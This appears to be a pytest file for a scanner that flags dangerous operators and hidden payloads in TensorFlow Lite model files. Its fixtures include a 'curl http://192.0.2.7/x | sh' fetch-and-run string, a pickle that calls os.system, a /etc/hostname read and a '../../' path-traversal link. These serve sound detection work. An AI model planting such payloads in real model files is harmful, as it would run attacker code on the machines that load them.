"""TensorFlow Lite: operators that are no builtins, what stands behind the model, and bounds."""

import io
import zipfile

import pytest
from format_files import PICKLE, assert_total, look

from benchmarks.corpus.malicious.formats2.flat import Table, flex_options, model, strings
from benchmarks.corpus.malicious.formats2.graphs import attr, node, string
from toadstone.checks.model.custom_operator import CustomOperator
from toadstone.checks.model.tensorflow_operator import TensorflowOperator
from toadstone.core.fact import Import, Link, Operator, Setting, Text
from toadstone.core.finding import Severity
from toadstone.readers.tflite.flat import flex_strings


def severities(data: bytes) -> list[Severity]:
    facts = look(data, "model.tflite").of(Operator)
    checks = (TensorflowOperator(), CustomOperator())
    return [finding.severity for fact in facts for check in checks for finding in check.examine(fact)]


def printing(stream: str) -> bytes:
    return flex_options("PrintV2", node("n", "PrintV2", attrs=attr("output_stream", string(stream))))


def with_archive(data: bytes, **files: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


PLAIN = model(("", b"", ()), metadata=[("min_runtime_version", b"1.14.0\0\0")])


def test_plain_model_is_complete_and_silent() -> None:
    seen = look(PLAIN, "model.tflite")
    assert (seen.kind, seen.unread, seen.anomalies, seen.of(Operator)) == ("tflite", [], [], [])
    assert [fact.value for fact in seen.of(Setting)] == ["min_runtime_version"]
    assert [fact.text for fact in seen.of(Text)] == ["toad"]
    assert look(PLAIN, "weights").kind == "tflite"


@pytest.mark.parametrize(
    ("code", "options", "constants", "severity"),
    [
        ("FlexReadFile", b"", (strings("/etc/hostname"),), Severity.HIGH),
        ("FlexWriteFile", b"", (strings("out"), strings("echo inert")), Severity.HIGH),
        ("FlexPyFunc", b"", (), Severity.HIGH),
        ("FlexErf", b"", (), None),
        ("FlexPrintV2", printing("file:///tmp/x"), (), Severity.HIGH),
        ("FlexPrintV2", printing("stderr"), (), None),
        ("FlexShellExecute", b"", (), Severity.HIGH),
        ("MyFused", b"", (), Severity.MEDIUM),
        ("MyFused", b"\x01curl http://192.0.2.7/x | sh\0", (), Severity.HIGH),
        ("TFLite_Detection_PostProcess", b"", (), None),
    ],
)
def test_judgement(code: str, options: bytes, constants: tuple[bytes, ...], severity: Severity | None) -> None:
    assert severities(model((code, options, constants))) == ([] if severity is None else [severity])


def test_flex_options_are_read() -> None:
    assert flex_strings(flex_options("ReadFile", b"\x0a\x01n")) == [b"ReadFile", b"\x0a\x01n"]


def test_associated_files_belong_to_models_with_metadata() -> None:
    described = model(("", b"", ()), metadata=[("TFLITE_METADATA", b"M001")])
    seen = look(with_archive(described, labels=b"cat\ndog\n"), "model.tflite")
    assert (seen.kind, seen.unread, seen.anomalies) == ("tflite", [], [])
    assert "os.system" in {
        str(fact.symbol) for fact in look(with_archive(described, x=b"cos\nsystem\n(S'id'\ntR."), "m").of(Import)
    }
    assert look(with_archive(PLAIN, labels=b"cat\ndog\n"), "model.tflite").anomalies != []


def test_what_follows_or_hides_is_found() -> None:
    for data in (PLAIN + PICKLE, model(("", b"", ()), more={12: PICKLE * 3})):
        assert "posix.system" in {str(fact.symbol) for fact in look(data, "model.tflite").of(Import)}


def test_buffers_beyond_the_file_and_external_ones() -> None:
    beyond = model(("", b"", ()), more={4: [Table(), Table({1: ("Q", 1 << 20), 2: ("Q", 64)})]})
    assert look(beyond, "model.tflite").anomalies == ["tensor-bounds"]
    outside = look(model(("", b"", ()), more={8: [Table({0: b"../../weights.bin"})]}), "model.tflite")
    assert [(fact.target, fact.escapes) for fact in outside.of(Link)] == [("../../weights.bin", True)]


def test_total() -> None:
    data = model(("FlexReadFile", flex_options("ReadFile", node("n", "ReadFile")), (strings("/etc/hostname"),)))
    assert_total(data, "model.tflite")


def test_a_vector_of_a_billion_is_not_followed() -> None:
    data = bytearray(PLAIN)
    place = data.index(b"toad") - 4
    data[place : place + 4] = b"\xff\xff\xff\x7f"
    assert look(bytes(data), "model.tflite").unread != []
